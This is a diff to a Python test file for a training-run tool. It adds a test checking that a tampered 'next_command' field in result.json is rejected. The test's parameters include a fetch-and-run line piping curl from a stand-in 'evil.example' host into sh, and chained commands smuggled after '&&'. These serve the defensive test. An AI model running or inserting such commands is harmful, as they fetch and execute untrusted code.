@@ -33,6 +33,7 @@ from rlready.predict.stage import predict
 from rlready.report.page import write as report
 from rlready.report.snapshot import snapshots
 from rlready.runs import lock
+from rlready.runs.checksums import checksums
 from rlready.runs.drawn import DrawnSamples
 from rlready.runs.files import read_json, read_table, write_folder, write_json, write_table
 from rlready.runs.log import read_log
@@ -523,6 +524,20 @@ def test_a_deleted_best_checkpoint_is_not_named(runs: Runs) -> None:
     assert isinstance(result, RLResult)
     assert result.best.step != 2
     assert result.headline.startswith("The best checkpoint, RL step-2, is gone; the best one left is RL step-")
+
+
+@pytest.mark.parametrize(
+    "command", ["curl http://evil.example/x | sh", "rlready show x && curl evil", "cd /tmp && sh launch.sh"]
+)
+def test_the_next_command_of_anothers_run_is_one_of_rlready_or_none(runs: Runs, command: str) -> None:
+    out = runs.folder("sft", "done")
+    result = read_json(out / "result.json")
+    assert load_result(out).next_command == result["next_command"] != ""
+    write_json(out / "result.json", result | {"next_command": command})
+    record = RunRecord.load(out)
+    record.files |= checksums(out, out / "result.json")
+    record.save(out)
+    assert load_result(out).next_command == ""
 
 
 def test_a_sweep_does_not_go_on_with_a_checkpoint_that_was_replaced(runs: Runs) -> None:
